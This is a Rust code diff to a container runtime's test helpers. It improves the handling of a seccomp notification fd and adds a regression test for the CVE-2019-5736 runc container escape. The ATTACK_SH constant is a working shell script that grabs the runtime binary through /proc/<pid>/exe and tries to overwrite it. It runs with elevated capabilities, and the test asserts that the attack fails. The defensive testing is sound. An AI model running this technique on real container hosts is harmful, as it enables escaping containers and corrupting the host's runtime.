@@ -4,7 +4,7 @@
 
 use std::fs::{self, File};
 use std::io::{Read, Write};
-use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
+use std::os::fd::{AsFd, AsRawFd, FromRawFd, OwnedFd, RawFd};
 use std::os::unix::fs::PermissionsExt;
 use std::os::unix::net::UnixListener;
 use std::os::unix::process::CommandExt;
@@ -342,16 +342,31 @@ fn serve(listener: &UnixListener, decisions: Vec<Decision>) -> Result<AgentRepor
     let mut decisions = decisions.into_iter();
     let mut current = decisions.next();
     while let Some(d) = current.as_ref() {
+        // RECV blocks even once every process using the filter is gone; the fd then polls as
+        // POLLHUP (seccomp_unotify(2)), which is how the agent knows to stop.
+        let mut fds = [nix::poll::PollFd::new(notify.as_fd(), nix::poll::PollFlags::POLLIN)];
+        match nix::poll::poll(&mut fds, nix::poll::PollTimeout::NONE) {
+            Ok(_) => {}
+            Err(nix::errno::Errno::EINTR) => continue,
+            Err(e) => return Err(format!("poll of the notify fd: {e}")),
+        }
+        let revents = fds[0].revents().unwrap_or(nix::poll::PollFlags::empty());
+        if !revents.contains(nix::poll::PollFlags::POLLIN) {
+            break;
+        }
         // SAFETY: seccomp_notif is plain old data; the kernel requires it zeroed before RECV.
         let mut req: libc::seccomp_notif = unsafe { std::mem::zeroed() };
         // SAFETY: RECV writes one seccomp_notif into `req`, which is that size.
         let rc = unsafe { libc::ioctl(notify.as_raw_fd(), libc::SECCOMP_IOCTL_NOTIF_RECV, &mut req) };
         if rc < 0 {
-            if std::io::Error::last_os_error().raw_os_error() == Some(libc::EINTR) {
-                continue;
+            // EINTR: our own wait was interrupted. ENOENT: the notification vanished between the
+            // poll and the RECV because the target's syscall was interrupted by a signal (Go
+            // runtimes such as runc's init get SIGURG for preemption); the restarted syscall
+            // comes back as a new notification, which this same decision answers.
+            match std::io::Error::last_os_error().raw_os_error() {
+                Some(libc::EINTR | libc::ENOENT) => continue,
+                _ => return Err(format!("NOTIF_RECV: {}", std::io::Error::last_os_error())),
             }
-            // ENOENT: every process with the filter is gone.
-            break;
         }
         syscalls.push(req.data.nr);
         // SAFETY: plain old data, filled in below.
@@ -406,4 +421,123 @@ pub fn ctl_dir(bundle: &crate::bundle::Bundle, name: &str) -> PathBuf {
 pub fn write_exec(path: &Path, content: &str) {
     fs::write(path, content).unwrap_or_else(|e| panic!("writing {}: {e}", path.display()));
     fs::set_permissions(path, fs::Permissions::from_mode(0o755)).expect("chmod script");
+}
+
+/// The CVE-2019-5736 attacker, run inside a container that shares the target's pid namespace:
+/// `sh /attack.sh <pid in the shared pid ns> <tag>`, with a writable /ctl bound from the host.
+///   1. tries to open `/proc/<pid>/exe` read-write (and for append) while the target lives;
+///   2. holds it open read-only on fd 3 (the original exploit's trick);
+///   3. once /ctl/<tag>.go exists — the test creates it after every process executing the binary
+///      is gone, so ETXTBSY no longer protects the file — reopens the held fd read-write through
+///      `/proc/self/fd/3` and writes to it.
+///
+/// Steps 1-2 are reported in /ctl/<tag>.grab, step 3 in /ctl/<tag>.result (see [`read_grab`],
+/// [`finish`]); each report appears atomically (renamed into place).
+pub const ATTACK_SH: &str = r#"
+t=$1; tag=$2; out=/ctl/$tag
+try() { if err=$( (eval "$1") 2>&1 ); then echo "$2 ok"; else echo "$2 failed: $err"; fi; }
+{
+  echo "target $t: $(tr '\0' ' ' < /proc/$t/cmdline)"
+  echo "exe -> $(readlink /proc/$t/exe 2>&1)"
+  try "exec 5<>/proc/$t/exe" live-open-rw
+  try "exec 5>>/proc/$t/exe" live-open-append
+  if (exec 5</proc/$t/exe) 2>/dev/null; then exec 3</proc/$t/exe; echo "grab ok"; else echo "grab failed: $( (exec 5</proc/$t/exe) 2>&1 )"; fi
+} > $out.grab.tmp 2>&1
+mv $out.grab.tmp $out.grab
+while [ ! -e /ctl/$tag.go ]; do usleep 20000; done
+{
+  if [ -e /proc/self/fd/3 ]; then
+    echo "held -> $(readlink /proc/self/fd/3)"
+    if (exec 5<>/proc/self/fd/3) 2>/dev/null; then
+      echo "reopen-rw ok"
+      exec 4<>/proc/self/fd/3
+      if echo PWNED-BY-CVE-2019-5736 >&4; then echo "write ok"; else echo "write failed"; fi
+    else
+      echo "reopen-rw failed: $( (exec 5<>/proc/self/fd/3) 2>&1 )"
+    fi
+  else
+    echo "nothing held"
+  fi
+} > $out.result.tmp 2>&1
+mv $out.result.tmp $out.result
+"#;
+
+/// Capabilities the attacker adds to the defaults so that the target's `PR_SET_DUMPABLE 0` does not
+/// hide it and the defence underneath (ETXTBSY, the read-only bind) is what gets tested.
+pub const ATTACKER_CAPS: &[&str] = &["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE"];
+
+/// Wait for the attacker's steps 1-2 report in `ctl` and return it.
+pub fn read_grab(ctl: &Path, tag: &str) -> String {
+    let f = ctl.join(format!("{tag}.grab"));
+    wait_for(&format!("the attacker to grab {tag}"), || f.exists());
+    fs::read_to_string(&f).unwrap_or_else(|e| panic!("reading {}: {e}", f.display()))
+}
+
+/// Let the attacker try step 3 and return its report.
+pub fn finish(ctl: &Path, tag: &str) -> String {
+    let go = ctl.join(format!("{tag}.go"));
+    fs::write(&go, "").unwrap_or_else(|e| panic!("writing {}: {e}", go.display()));
+    let f = ctl.join(format!("{tag}.result"));
+    wait_for(&format!("the attacker's result for {tag}"), || f.exists());
+    fs::read_to_string(&f).unwrap_or_else(|e| panic!("reading {}: {e}", f.display()))
+}
+
+/// The common verdict: the binary copy is unchanged, nothing was opened for writing while the
+/// target ran, and the held fd could not be written through. `brisk` adds brisk's own defence:
+/// its helper runs from a read-only bind mount of its binary, so even with CAP_SYS_PTRACE the held
+/// exe cannot be reopened for writing (runc's memfd copy can be, but is sealed).
+pub fn assert_blocked(label: &str, brisk: bool, copy: &BinaryCopy, grab: &str, result: &str) {
+    eprintln!("RESULT {label}:\n--- grab\n{grab}--- result\n{result}");
+    assert_eq!(copy.hash(), copy.original_hash(), "CVE-2019-5736: the runtime binary copy was modified!\n{grab}\n{result}");
+    assert!(!result.contains("write ok"), "CVE-2019-5736: a container process wrote through /proc/<pid>/exe:\n{grab}\n{result}");
+    assert!(grab.contains("live-open-rw failed") && grab.contains("live-open-append failed"), "the live runtime binary was opened for writing:\n{grab}");
+    if brisk {
+        assert!(
+            grab.contains("grab failed") || result.contains("reopen-rw failed"),
+            "brisk: the runtime binary was reopened for writing through a held /proc/<pid>/exe:\n{grab}\n{result}"
+        );
+    }
+}
+
+/// After every process executing the copy is gone the copy itself is writable from the host, so
+/// ETXTBSY is not what stops step 3.
+pub fn assert_not_busy(copy: &BinaryCopy) {
+    wait_for("the runtime binary to stop being executed (ETXTBSY)", || copy.host_can_open_for_write().is_ok());
+}
+
+/// `linux.seccomp` sending execve and execveat to the agent at `listener`: the agent can hold the
+/// runtime's final execve — the last moment the runtime binary runs inside the container.
+pub fn execve_notify_seccomp(listener: &Path) -> serde_json::Value {
+    serde_json::json!({
+        "defaultAction": "SCMP_ACT_ALLOW",
+        "listenerPath": listener.to_str().expect("utf-8 listener path"),
+        "syscalls": [{"names": ["execve", "execveat"], "action": "SCMP_ACT_NOTIFY"}]
+    })
+}
+
+/// A [`Decision::Hold`] with the receiver of the held pid and the sender whose send (or drop)
+/// releases it.
+pub fn hold() -> (Decision, std::sync::mpsc::Receiver<u32>, std::sync::mpsc::Sender<()>) {
+    let (ntx, nrx) = std::sync::mpsc::channel();
+    let (rtx, rrx) = std::sync::mpsc::channel();
+    (Decision::Hold { notified: ntx, release: rrx }, nrx, rtx)
+}
+
+/// Host-side proof that process `host_pid` executes `copy`: its `/proc/<pid>/exe` is the same
+/// inode (a bind mount of the copy, as brisk's helper and runc's bindfd use) or has the same
+/// content (runc's memfd clone). Says which, or why not.
+pub fn exe_is_copy(host_pid: i32, copy: &BinaryCopy) -> Result<&'static str, String> {
+    use std::os::unix::fs::MetadataExt;
+    let exe = format!("/proc/{host_pid}/exe");
+    let got = fs::metadata(&exe).map_err(|e| format!("stat {exe}: {e}"))?;
+    let want = fs::metadata(copy.path()).map_err(|e| format!("stat {}: {e}", copy.path().display()))?;
+    if (got.dev(), got.ino()) == (want.dev(), want.ino()) {
+        return Ok("the copy's inode");
+    }
+    let data = fs::read(&exe).map_err(|e| format!("reading {exe}: {e}"))?;
+    let hash: String = Sha256::digest(&data).iter().map(|b| format!("{b:02x}")).collect();
+    if hash == copy.original_hash() {
+        return Ok("a clone of the copy's content");
+    }
+    Err(format!("{exe} ({} -> {:?}) is neither the copy {} nor a clone of it", got.ino(), fs::read_link(&exe).ok(), copy.path().display()))
 }
